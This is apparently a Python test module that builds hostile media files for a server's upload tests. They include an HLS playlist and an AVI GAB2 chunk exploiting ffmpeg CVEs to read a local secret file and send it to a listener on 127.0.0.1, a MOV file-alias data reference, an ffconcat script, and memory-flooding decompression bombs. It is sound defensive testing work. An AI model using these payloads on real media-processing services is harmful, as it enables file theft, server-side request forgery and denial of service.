"""Files that are made to read other files, to call home, or to eat all memory.

Each is after one that was found in the wild, and tries it with a file beside it that holds a
secret, and a listener on this machine.
"""

import struct
from collections.abc import Callable
from pathlib import Path

from tests.server.features.media.clips import make_clip, run_ffmpeg

SECRET = "canary-5f2c-nobody-may-read-this"


def playlist(folder: Path, port: int) -> bytes:
    """An HLS playlist (CVE-2016-1897): a secret's bytes as part of an address to ask for."""
    lines = [
        "#EXTM3U",
        "#EXT-X-MEDIA-SEQUENCE:0",
        "#EXTINF:10.0,",
        f"concat:http://127.0.0.1:{port}/head|file://{folder}/secret.txt",
        "#EXTINF:10.0,",
        f"file://{folder}/secret.txt",
        "#EXT-X-ENDLIST",
    ]
    return "\n".join(lines).encode() + b"\n"


def gab2(folder: Path, port: int) -> bytes:
    """An AVI whose subtitle chunk (GAB2) is that playlist (CVE-2017-9993)."""
    clip = make_clip(folder / "plain.avi", seconds=0.2, size="64x48", options=("-c:v", "mpeg4"))
    body = clip.read_bytes()
    named = "x".encode("utf-16-le")
    text = playlist(folder, port)
    inside = struct.pack("<HI", 2, len(named)) + named + struct.pack("<HI", 4, len(text)) + text
    chunk = b"GAB2\0" + inside
    header = struct.pack(
        "<4s4sIHHIIIIIIIIhhhh",
        b"txts", b"\0\0\0\0", 0, 0, 0, 0, 1, 25, 0, 1, len(chunk), 0xFFFFFFFF, 0, 0, 0, 0, 0,
    )  # fmt: skip
    stream = _list(b"strl", _chunk(b"strh", header) + _chunk(b"strf", b"\0" * 16))
    at = body.index(b"hdrl")
    size = struct.unpack("<I", body[at - 4 : at])[0]
    end = at + size
    body = (
        body[: at - 4] + struct.pack("<I", size + len(stream)) + body[at:end] + stream + body[end:]
    )
    movi = body.index(b"movi")
    packet = _chunk(b"02tx", chunk)
    size = struct.unpack("<I", body[movi - 4 : movi])[0]
    body = (
        body[: movi - 4]
        + struct.pack("<I", size + len(packet))
        + b"movi"
        + packet
        + body[movi + 4 :]
    )
    return body[:4] + struct.pack("<I", len(body) - 8) + body[8:]


def data_reference(folder: Path, _port: int) -> bytes:
    """A MOV whose track says that its bytes are in another file (an ``alis`` data reference)."""
    make_clip(folder / "secret.mov", seconds=0.2, size="64x48", sound=False)
    body = (folder / "secret.mov").read_bytes()
    at = body.index(b"dref")
    name = f"{folder}/secret.txt".encode()
    alias = _box(b"url ", b"\0\0\0\0" + b"file://" + name + b"\0")
    told = _box(b"dref", b"\0\0\0\0\0\0\0\1" + alias)
    old = struct.unpack(">I", body[at - 4 : at])[0]
    body = body[: at - 4] + told + body[at - 4 + old :]
    # Every box around it grows with it.
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        place = body.index(kind)
        size = struct.unpack(">I", body[place - 4 : place])[0] + len(told) - old
        body = body[: place - 4] + struct.pack(">I", size) + body[place:]
    return body


def concat_script(folder: Path, _port: int) -> bytes:
    """ffmpeg's own list of files, with a byte of zero so that it passes for binary."""
    return f"ffconcat version 1.0\nfile '{folder}/secret.txt'\n#\0".encode()


def flood(folder: Path, _port: int) -> bytes:
    """A few hundred bytes that declare a picture of 65500 by 65500."""
    clip = make_clip(folder / "flood.avi", seconds=0.1, size="64x48", options=("-c:v", "mjpeg"))
    body = bytearray(clip.read_bytes())
    at = body.index(b"avih") + 8
    body[at + 32 : at + 40] = struct.pack("<II", 65500, 65500)
    at = body.index(b"strf") + 8
    body[at + 4 : at + 12] = struct.pack("<II", 65500, 65500)
    # Each picture says so as well (JPEG, SOF0).
    start = 0
    while (start := body.find(b"\xff\xc0\x00\x11\x08", start + 1)) > 0:
        body[start + 5 : start + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(body)


def flood_of_h264(folder: Path, _port: int) -> bytes:
    """Some thousand bytes that are a picture of a hundred megabytes, all in one colour."""
    colour = ("-f", "lavfi", "-i", "color=c=blue:s=8208x8208:r=1", "-frames:v", "1")
    run_ffmpeg(*colour, "-c:v", "libx264", "-preset", "ultrafast", folder / "huge.mkv")
    return (folder / "huge.mkv").read_bytes()


ATTACKS: dict[str, Callable[[Path, int], bytes]] = {
    "playlist as mp4": playlist,
    "playlist behind a zero": lambda folder, port: playlist(folder, port) + b"\0",
    "GAB2 in AVI": gab2,
    "data reference": data_reference,
    "concat script": concat_script,
    "flood of JPEG": flood,
    "flood of H.264": flood_of_h264,
}


def _chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _list(kind: bytes, body: bytes) -> bytes:
    return b"LIST" + struct.pack("<I", len(body) + 4) + kind + body


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body
